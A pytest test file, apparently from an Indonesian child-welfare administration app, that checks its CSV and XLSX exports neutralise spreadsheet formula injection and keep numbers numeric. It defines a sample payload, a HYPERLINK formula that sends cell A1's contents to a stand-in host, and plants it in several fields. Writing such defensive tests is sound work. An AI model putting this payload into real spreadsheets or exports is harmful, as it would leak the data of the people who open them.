"""Every export writes text as text: no formula injection (OWASP "CSV injection"), numbers stay numbers."""

import csv
import datetime as dt
import io
from decimal import Decimal as D

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from openpyxl import load_workbook

from clusters.models import Indicator, SelfAssessment
from core.spreadsheets import spreadsheet_text, spreadsheet_text_read, to_csv, to_xlsx
from core.tables import read_table
from kelurahan.models import Patbm

ATTACK = '=HYPERLINK("http://x/?d="&A1,"Klik")'


@pytest.mark.parametrize("text", [ATTACK, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1"])
def test_text_starting_with_a_formula_sign_gets_a_quote(text):
    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Perda No. 5/2018", "", "3", "a=b", " =x"])
def test_ordinary_text_is_unchanged(text):
    assert spreadsheet_text(text) == text


@pytest.mark.parametrize("write", [to_xlsx, to_csv])
def test_an_exported_table_imported_again_keeps_its_text(write):
    texts = [ATTACK, "-", "+62 251", "@bogor", "'quoted", "Perda No. 5/2018"]
    rows = [[text] for text in texts]
    data = to_xlsx(["Catatan"], rows, "T") if write is to_xlsx else to_csv(["Catatan"], rows)
    assert [row["Catatan"] for row in read_table(data).rows] == texts
    assert spreadsheet_text_read("'x") == "'x"


def _cells(xlsx: bytes):
    return list(load_workbook(io.BytesIO(xlsx)).active.iter_rows(min_row=2))


def test_xlsx_writes_text_as_text_and_numbers_as_numbers():
    rows = [[ATTACK, "-5", "#N/A", D("-1.50"), -3, dt.date(2019, 7, 1), "bell\x07"]]
    (row,) = _cells(to_xlsx(["a", "b", "c", "d", "e", "f", "g"], rows, "T"))
    assert [cell.data_type for cell in row[:3]] == ["s", "s", "s"]
    assert [cell.value for cell in row[:3]] == ["'" + ATTACK, "'-5", "#N/A"]
    assert row[3].data_type == "n" and row[3].value == -1.5 and row[3].number_format == "0.00"
    assert row[4].data_type == "n" and row[4].value == -3
    assert row[5].value == dt.datetime(2019, 7, 1)
    assert row[6].value == "bell"  # a control character XML cannot hold is dropped, not a 500


def test_xlsx_header_is_neutralised_too():
    sheet = load_workbook(io.BytesIO(to_xlsx(["=1+1"], [], "T"))).active
    assert sheet["A1"].data_type == "s" and sheet["A1"].value == "'=1+1"


def test_xlsx_columns_are_as_wide_as_their_content_capped():
    header = ["No.", "Indikator", "Catatan"]
    rows = [[1, "Persentase anak yang memiliki akta kelahiran", "x" * 500]]
    dimensions = load_workbook(io.BytesIO(to_xlsx(header, rows, "T"))).active.column_dimensions
    assert 6 <= dimensions["A"].width < 10
    assert dimensions["B"].width >= len(rows[0][1])
    assert dimensions["C"].width == 60


def _csv_rows(data: bytes):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_csv_neutralises_every_formula_sign_and_keeps_negative_numbers():
    texts = [ATTACK, "+1", "-1", "@A1", "\tx", "\rx"]
    _, row = _csv_rows(to_csv(["h"] * 8, [[*texts, D("-1.50"), -3]]))
    assert row[:6] == ["'" + text for text in texts]
    assert row[6:] == ["-1,50", "-3"]


@pytest.fixture
def gugus_client(client, demo):
    client.force_login(get_user_model().objects.get(username="gugus"))
    return client


@pytest.mark.django_db
def test_score_table_exports_an_evidence_note_formula_as_text(gugus_client):
    SelfAssessment.objects.filter(evaluation__year=2018, indicator__number=3).update(evidence=ATTACK)
    response = gugus_client.get(reverse("clusters:evaluation-export", args=[2018, "xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    (cell,) = [row[9] for row in sheet.iter_rows(min_row=2) if row[1].value == 3]
    assert cell.data_type == "s" and cell.value == "'" + ATTACK
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)

    rows = _csv_rows(gugus_client.get(reverse("clusters:evaluation-export", args=[2018, "csv"])).content)
    assert next(row for row in rows if row[1] == "3")[9] == "'" + ATTACK


@pytest.mark.django_db
def test_import_template_exports_an_indicator_name_formula_as_text(gugus_client):
    Indicator.objects.filter(number=1).update(name="=1+1")
    sheet = load_workbook(io.BytesIO(
        gugus_client.get(reverse("clusters:score-import-template", args=[2019])).content
    )).active
    (cell,) = [row[2] for row in sheet.iter_rows(min_row=2) if row[1].value == 1]
    assert cell.data_type == "s" and cell.value == "'=1+1"


@pytest.mark.django_db
def test_patbm_register_exports_an_sk_number_formula_as_text(gugus_client):
    Patbm.objects.filter(kelurahan__code="32.71.01.1007").update(sk_number=ATTACK, note="-1+1")
    sheet = load_workbook(io.BytesIO(gugus_client.get(reverse("kelurahan:patbm-export", args=["xlsx"])).content)).active
    (row,) = [row for row in sheet.iter_rows(min_row=2) if row[2].value == "32.71.01.1007"]
    assert row[6].data_type == "s" and row[6].value == "'" + ATTACK
    assert row[9].value == "'-1+1"
    assert row[8].data_type == "n"  # the number of activists stays a number

    rows = _csv_rows(gugus_client.get(reverse("kelurahan:patbm-export", args=["csv"])).content)
    (row,) = [row for row in rows if row[2] == "32.71.01.1007"]
    assert row[6] == "'" + ATTACK and row[9] == "'-1+1"
